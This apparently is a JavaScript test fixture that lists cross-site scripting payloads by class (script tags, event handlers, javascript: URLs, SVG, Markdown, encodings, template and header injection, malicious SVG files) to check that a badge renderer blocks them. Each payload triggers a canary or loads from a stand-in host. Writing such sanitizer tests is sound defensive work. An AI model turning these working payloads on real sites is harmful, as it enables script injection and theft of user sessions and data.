// Attempts to have a badge run a script in the browser of whoever looks at it: one string for each known way, by class. `C` is what
// they try to run: a mark that the hostile check plants in every page, so that nothing needs to be guessed from outside.

import { CANARY } from "./chromium.mjs";

const C = `${CANARY}()`;
const B64 = btoa(`<script>top.${C}</script>`);
const hex = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join("");
const decimal = (text) => [...text].map((c) => `&#${c.codePointAt(0).toString().padStart(7, "0")}`).join("");
const wide = (text) => [...text].map((c) => String.fromCodePoint(c.codePointAt(0) + 0xfee0)).join("");
const STRANGER = "http://canary.invalid/seen";

const tags = [
  `<script>${C}</script>`, `<SCRIPT>${C}</SCRIPT>`, `<ScRiPt >${C}</sCrIpT>`, `<script\n>${C}</script\n>`, `<script/x>${C}</script>`,
  `<script type=module>${C}</script>`, `<script src=data:,${C}></script>`, `<script src=${STRANGER}.js></script>`, `<script src=//canary.invalid/x></script>`,
  `<script>/*</script><script>*/${C}</script>`, `<<script>${C}//<</script>`, `<script>${C}`, `<script async>${C}</script async>`,
  `<script nonce>${C}</script>`, `<script language=javascript>${C}</script>`, `<svg><script>${C}</script></svg>`, `<svg><script href=data:,${C} /></svg>`,
  `<iframe srcdoc="<script>parent.${C}</script>"></iframe>`, `<iframe src="javascript:parent.${C}"></iframe>`, `<iframe src=${STRANGER}></iframe>`,
  `<object data="javascript:${C}"></object>`, `<object data="data:text/html;base64,${B64}"></object>`, `<embed src="javascript:${C}">`, `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${C}'/>">`,
  `<base href="${STRANGER}/">`, `<link rel=stylesheet href=${STRANGER}.css>`, `<link rel=prefetch href=${STRANGER}>`, `<meta http-equiv=refresh content="0;url=javascript:${C}">`,
  `<meta http-equiv=refresh content="0;url=${STRANGER}">`, `<template shadowrootmode=open><script>${C}</script></template>`, `<portal src=${STRANGER}></portal>`, `<frameset onload=${C}>`,
];

const handlers = [
  `<img src=x onerror=${C}>`, `<img src=x onerror="${C}">`, `<img src=x onerror='${C}'>`, `<img/src=x/onerror=${C}>`, `<img src=x:x onerror\n=\n${C}>`, `<IMG SRC=x OnErRoR=${C}>`,
  `<image src=x onerror=${C}>`, `<img src=x onerror=eval(atob('${btoa(C)}'))>`, `<img src=x onerror=self['${CANARY}']\`\`>`, `<img srcset=x onerror=${C}>`, `<img src=${STRANGER}.png>`,
  `<svg onload=${C}>`, `<svg/onload=${C}>`, `<svg\fonload=${C}>`, `<body onload=${C}>`, `<body onpageshow=${C}>`, `<input autofocus onfocus=${C}>`, `<select autofocus onfocus=${C}>`,
  `<textarea autofocus onfocus=${C}>`, `<button autofocus onfocus=${C}>x</button>`, `<a autofocus tabindex=1 onfocus=${C}>x</a>`, `<details open ontoggle=${C}>`, `<details ontoggle=${C} open><summary>x`,
  `<video src=x onerror=${C}>`, `<video><source onerror=${C}>`, `<audio src=x onerror=${C}>`, `<video poster=${STRANGER}.png>`, `<marquee onstart=${C}>`, `<div onpointerenter=${C} style=position:fixed;inset:0>`,
  `<style onload=${C}></style>`, `<link rel=stylesheet href=data:text/css, onload=${C}>`, `<iframe onload=${C}></iframe>`, `<object data=x onerror=${C}>`, `<embed src=x onerror=${C}>`,
  `<p style=animation:x onanimationstart=${C}>`, `<div contenteditable autofocus onfocus=${C}>x</div>`, `<form onformdata=${C}>`, `<input type=image src=x onerror=${C}>`, `<track src=x onerror=${C}>`,
  `<img src=x onerror=\u2028${C}>`, `<img src="x" onerror="javascript:${C}">`, `<img src=x onerror=top[8680439..toString(30)](1)>`, `<xss onfocus=${C} autofocus tabindex=1>`, `<xss oncontentvisibilityautostatechange=${C} style=display:block;content-visibility:auto>`,
];

const attributes = [
  `" onmouseover="${C}`, `' onmouseover='${C}`, `" autofocus onfocus="${C}`, `' autofocus onfocus='${C}`, `"><img src=x onerror=${C}>`, `'><img src=x onerror=${C}>`, `"><svg onload=${C}>`,
  `\`><img src=x onerror=${C}>`, `"/><script>${C}</script>`, `'/><script>${C}</script>`, `" style="background:url(${STRANGER})`, `x" onerror="${C}" x="`, `x onerror=${C} `, `" href="javascript:${C}`,
  `" formaction="javascript:${C}`, `" srcdoc="<script>parent.${C}</script>`, `&quot; onmouseover=&quot;${C}`, `&quot;&gt;&lt;img src=x onerror=${C}&gt;`, `\\"><img src=x onerror=${C}>`, `\\' onerror=${C} '`,
  `--><img src=x onerror=${C}>`, `--!><img src=x onerror=${C}>`, `]]><img src=x onerror=${C}>`, `?><img src=x onerror=${C}>`, `" http-equiv="refresh" content="0;url=${STRANGER}`, `"\t\n\fonload="${C}`, `" accesskey=x onclick="${C}`,
];

/** Where an address is wanted. */
export const ADDRESSES = [
  `javascript:${C}`, `JavaScript:${C}`, `JAVASCRIPT:${C}`, ` javascript:${C}`, `\tjavascript:${C}`, `java\tscript:${C}`, `java\nscript:${C}`, `java\r\nscript:${C}`, `\u0001javascript:${C}`,
  `javascript\t:${C}`, `javascript&colon;${C}`, `javascript&#58;${C}`, `java&Tab;script:${C}`, `&#106;avascript:${C}`, `javascript:/*--></title></style></textarea></script><svg onload=${C}>`, `javascript://%0a${C}`,
  `javascript://example.org/%0a${C}`, `javascript:void(0);${C}`, `javascript:'<script>${C}</script>'`, `data:text/html,<script>opener.${C}</script>`, `data:text/html;base64,${B64}`, `data:image/svg+xml,<svg onload='${C}'/>`,
  `vbscript:msgbox(1)`, `blob:http://127.0.0.1/x`, `file:///etc/passwd`, `view-source:javascript:${C}`, `feed:javascript:${C}`, `jar:javascript:${C}!/`, `//canary.invalid/"onerror="${C}`, `https://example.org/"onmouseover="${C}`,
  `https://example.org/'><img src=x onerror=${C}>`, `https://example.org/?</script><script>${C}</script>`, `https://user:secret@example.org/`, `ｊavascript:${C}`, `mailto:x@example.org"onclick="${C}`, `intent:#Intent;scheme=javascript;end`,
];

const pictures = [
  `<svg><animate onbegin=${C} attributeName=x dur=1s>`, `<svg><set onbegin=${C} attributename=x dur=1s>`, `<svg><animatetransform onbegin=${C} attributeName=transform>`, `<svg><a xlink:href="javascript:${C}"><text y=9>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${C}" /><text y=9>x</text></a></svg>`, `<svg><a><set attributeName=href to="javascript:${C}" /><text y=9>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${C}'/></svg>#x">`,
  `<svg><image href=${STRANGER}.png></svg>`, `<svg><foreignObject><iframe src="javascript:parent.${C}"></iframe></foreignObject></svg>`, `<svg><style>@import "${STRANGER}.css"</style></svg>`, `<svg><desc><script>${C}</script></desc></svg>`,
  `<svg><title><img src=x onerror=${C}></title></svg>`, `<svg></p><style><a id="</style><img src=x onerror=${C}>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${C}>`, `<math href="javascript:${C}">x</math>`, `<math><maction actiontype="statusline#${STRANGER}" xlink:href="javascript:${C}">x`,
  `<svg><discard onbegin=${C}>`, `<svg xmlns="http://www.w3.org/2000/svg" onload="${C}"/>`, `<?xml-stylesheet href="javascript:${C}"?><svg/>`, `<!DOCTYPE x [<!ENTITY x SYSTEM "${STRANGER}">]><svg>&x;</svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${C}</handler>`, `<svg><feImage href="${STRANGER}"/></svg>`,
];

/** For fields that are read as Markdown. */
export const MARKDOWN = [
  `[x](javascript:${C})`, `[x](JaVaScRiPt:${C})`, `[x](<javascript:${C}>)`, `[x]( javascript:${C} )`, `[x](java\nscript:${C})`, `[x](javascript&colon;${C})`, `[x](&#106;avascript:${C})`, `[x](&#x6A;avascript&#x3a;${C})`, `[x](java%73cript:${C})`,
  `[x](data:text/html;base64,${B64})`, `[x](vbscript:x)`, `[x](\\javascript:${C})`, `[x](https://e.org "onmouseover=${C}")`, `[x](https://e.org '"onmouseover="${C}')`, `[x](https://e.org/"onmouseover="${C})`, `[x](https://e.org/'onmouseover='${C})`,
  `![x](javascript:${C})`, `![x](x"onerror="${C})`, `![x](${STRANGER}.png)`, `![" onerror="${C}](x)`, `![x](data:image/svg+xml,<svg/onload=${C}>)`, `<javascript:${C}>`, `<data:text/html;base64,${B64}>`, `<https://e.org/"onmouseover="${C}>`, `<x@e.org"onclick=${C}>`,
  `[x]: javascript:${C}\n\n[x]`, `[x]: javascript:${C} "t"\n\n[y][x]`, `[a]: <javascript:${C}>\n\n[a][]`, `[^1]\n\n[^1]: <img src=x onerror=${C}>`, `\`\`\`"><img src=x onerror=${C}>\nx\n\`\`\``, `\`\`\`x onmouseover=${C}\nx\n\`\`\``, `\`<img src=x onerror=${C}>\``, `    <img src=x onerror=${C}>`,
  `# <img src=x onerror=${C}> {#x onmouseover=${C}}`, `> <script>${C}</script>`, `* <svg onload=${C}>`, `| <img src=x onerror=${C}> | b |\n|---|---|\n| <script>${C}</script> | "x" |`, `~~<img src=x onerror=${C}>~~`, `- [x] <img src=x onerror=${C}>`, `*<img src=x onerror=${C}>*`, `<div>\n\n**x**\n\n<script>${C}</script>\n\n</div>`,
  `<!-- x --><img src=x onerror=${C}><!-- -->`, `<![CDATA[<img src=x onerror=${C}>]]>`, `<?php <img src=x onerror=${C}> ?>`, `\\<img src=x onerror=${C}>`, `&lt;img src=x onerror=${C}&gt;`, `$\\href{javascript:${C}}{x}$`, `![[x|<img src=x onerror=${C}>]]`, `[x](https://e.org){onclick=${C}}`, `[<img src=x onerror=${C}>](https://e.org)`,
  `[x](https://e.org\n"a" onclick="${C}")`, `[x](\u0001javascript:${C})`, `[x](\u00a0javascript:${C})`, `[x](/\\canary.invalid)`, `[x](//canary.invalid)`, `${"[".repeat(400)}x${"](y)".repeat(400)}`, `${"> ".repeat(300)}<img src=x onerror=${C}>`, `${"*_".repeat(400)}x`, `${"- ".repeat(200)}<script>${C}</script>`,
];

const dataBlocks = [
  `</script><script>${C}</script>`, `</script ><img src=x onerror=${C}>`, `</SCRIPT><script>${C}</script>`, `<!--<script>`, `<!--<script>${C}`, `--></script><script>${C}</script>`, `</script\t><svg onload=${C}>`, `\\u003c/script><script>${C}</script>`,
  `\\</script><script>${C}</script>`, `"}</script><script>${C}</script>`, `","@context":"${STRANGER}","x":"`, `\u2028</script><script>${C}</script>`, `<\\/script><script>${C}</script>`, `]]></script><script>${C}</script>`, `</script/x><script>${C}</script>`,
];

const encodings = [
  hex(`<img src=x onerror=${C}>`), decimal(`<img src=x onerror=${C}>`), `&lt;script&gt;${C}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${C}&amp;lt;/script&amp;gt;`, `&LT;img src=x onerror=${C}&GT;`, `%3Cscript%3E${C}%3C/script%3E`, `%253Cscript%253E${C}%253C/script%253E`,
  `\\x3cscript\\x3e${C}\\x3c/script\\x3e`, `\\u003cscript\\u003e${C}\\u003c/script\\u003e`, `+ADw-script+AD4-${C}+ADw-/script+AD4-`, wide(`<script>`) + C + wide(`</script>`), `‹script›${C}‹/script›`, `﹤img src=x onerror=${C}﹥`, `\u02bascript\u02ba"><img src=x onerror=${C}>`,
  `<img src=x onerror=${hex(C)}>`, `<a href="${hex(`javascript:${C}`)}">x</a>`, `<a href="java&#9;script:${C}">x</a>`, `<img src=x onerror="&#0000097ccoladeCanary()">`, `\u00bcscript\u00be${C}\u00bc/script\u00be`, `<\u200bscript>${C}</script>`, `<s\u00adcript>${C}</script>`, `<script\u00a0>${C}</script>`, `&NewLine;<img src=x onerror=${C}>`, `&bsol;&apos;&gt;<img src=x onerror=${C}>`,
  `<scr<script>ipt>${C}</scr</script>ipt>`, `<im<b>g src=x onerror=${C}>`, `\ufeff<script>${C}</script>`, `<scrİpt>${C}</scrİpt>`, `<ſcript>${C}</ſcript>`,
];

const contexts = [
  `</title><img src=x onerror=${C}>`, `</textarea><img src=x onerror=${C}>`, `</style><img src=x onerror=${C}>`, `</noscript><img src=x onerror=${C}>`, `</pre></code><script>${C}</script>`, `</summary></details><svg onload=${C}>`, `</a><a href="javascript:${C}">x</a>`, `<noscript><p title="</noscript><img src=x onerror=${C}>">`,
  `<form action="javascript:${C}"><button>Verify</button></form>`, `<button form=x formaction="javascript:${C}">x</button>`, `<input type=submit formaction="javascript:${C}">`, `<isindex action="javascript:${C}">`, `<a href="javascript:${C}">x</a>`, `<a href=" &#14; javascript:${C}">x</a>`, `<area href="javascript:${C}">`, `<a ping=${STRANGER} href=#>x</a>`,
  `<style>*{background:url(${STRANGER})}</style>`, `<p style="background:url(${STRANGER})">x</p>`, `<style>@import '${STRANGER}'</style>`, `<div style="width:expression(${C})">`, `<xmp><img src=x onerror=${C}></xmp>`, `<plaintext>`, `<table background=${STRANGER}>`, `<input name=url value=x><textarea>`, `<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=${C}>`,
  `{{constructor.constructor('${C}')()}}`, `\${${C}}`, `<%= ${C} %>`, `#{${C}}`, `{%raw%}${C}`, `[[\${${C}}]]`, `*{${C}}`, `=HYPERLINK("${STRANGER}")`, `'; ${C}; '`, `"; ${C}; "`, `\`; ${C}; \``, `*/ ${C} /*`, `\r\nSet-Cookie: x=1\r\n\r\n<script>${C}</script>`,
];

const invisible = [
  `\u202e<img src=x onerror=${C}>\u202c`, `Ana\u202egpj.exe`, `\u2066\u202eevil\u2069 University`, `abc\u202b (Valid)`, `\u200f\u200e<svg onload=${C}>`, `A\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a`.repeat(20), `\u200b\u200c\u200d\u2060\ufeff`,
  `<\u0000script>${C}</script>`.replaceAll("\u0000", "\u0085"), `\u{e0041}\u{e0042}<script>${C}</script>`, `раураӏ University`, `\u2029<script>${C}</script>`, `﷽`.repeat(60), `\u202d\u202e`.repeat(60) + "x", `👩‍👩‍👧‍👦`.repeat(30),
];

export const CLASSES = { tags, handlers, attributes, addresses: ADDRESSES, pictures, markdown: MARKDOWN, dataBlocks, encodings, contexts, invisible };
export const PAYLOADS = Object.values(CLASSES).flat();

/** Pictures that try the same: each is refused at the upload, or harmless when it is opened by itself. */
export const DRAWINGS = [
  ["a script", `<script>${C}</script>`],
  ["a script from elsewhere", `<script href="${STRANGER}.js"/>`],
  ["a handler on a shape", `<rect width="9" height="9" onload="${C}" onclick="${C}"/>`],
  ["an address that is a script", `<a href="javascript:${C}"><rect width="600" height="600"/></a>`],
  ["an address by its old name", `<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${C}"><rect width="600" height="600"/></a>`],
  ["an address that is set later", `<a id="a"><set attributeName="href" to="javascript:${C}" begin="0s"/><rect width="600" height="600"/></a>`],
  ["an address that is animated", `<a><animate attributeName="href" values="javascript:${C}" dur="1s"/><rect width="600" height="600"/></a>`],
  ["an animation that begins", `<animate onbegin="${C}" attributeName="x" dur="1s"/>`],
  ["another document inside", `<foreignObject width="600" height="600"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${C}"/></foreignObject>`],
  ["HTML inside", `<foreignObject width="600" height="600"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${C}"/></body></foreignObject>`],
  ["a use of a data address", `<use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3E${C}%3C/script%3E%3C/svg%3E#x"/>`],
  ["a picture from elsewhere", `<image href="${STRANGER}.png" width="600" height="600"/>`],
  ["a picture that is a drawing with a script", `<image width="600" height="600" href="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${C}"/>`)}"/>`],
  ["a style from elsewhere", `<style>@import url("${STRANGER}.css"); rect { fill: url("${STRANGER}.svg#x") }</style><rect width="600" height="600"/>`],
  ["a font from elsewhere", `<style>@font-face { font-family: x; src: url("${STRANGER}.woff2") } text { font-family: x }</style><text y="99">x</text>`],
  ["a filter from elsewhere", `<filter id="f"><feImage href="${STRANGER}.png"/></filter><rect width="600" height="600" filter="url(#f)"/>`],
  ["a mask from elsewhere", `<rect width="600" height="600" mask="url(${STRANGER}.svg#m)"/>`],
  ["a pattern from elsewhere", `<pattern id="p" href="${STRANGER}.svg#p" width="1" height="1"/><rect width="600" height="600" fill="url(#p)"/>`],
  ["a handler of XML events", `<handler xmlns:ev="http://www.w3.org/2001/xml-events" type="application/ecmascript" ev:event="load">${C}</handler>`],
  ["an event listener", `<rect id="r" width="9" height="9"/><listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#r"/>`],
  ["a title that is HTML", `<title>&lt;img src=x onerror=${C}&gt;</title><rect width="600" height="600"/>`],
  ["metadata with a script", `<metadata><script xmlns="http://www.w3.org/1999/xhtml">${C}</script></metadata><rect width="600" height="600"/>`],
].map(([name, inside]) => ({ name, svg: `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="600" viewBox="0 0 600 600">${inside}</svg>` }));

/** Those that are wrong as a whole. */
DRAWINGS.push(
  { name: "a handler on the root", svg: `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="600" onload="${C}"><rect width="600" height="600"/></svg>` },
  { name: "a stylesheet by instruction", svg: `<?xml-stylesheet href="${STRANGER}.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg" width="600" height="600"><rect width="600" height="600"/></svg>` },
  { name: "an entity from elsewhere", svg: `<!DOCTYPE svg [<!ENTITY x SYSTEM "${STRANGER}">]><svg xmlns="http://www.w3.org/2000/svg" width="600" height="600"><text>&x;</text></svg>` },
  { name: "HTML that says it is a drawing", svg: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${C}</script></html>` },
  { name: "a drawing in a namespace of HTML", svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" width="600" height="600"><h:script>${C}</h:script><h:iframe src="${STRANGER}"/></svg>` },
);
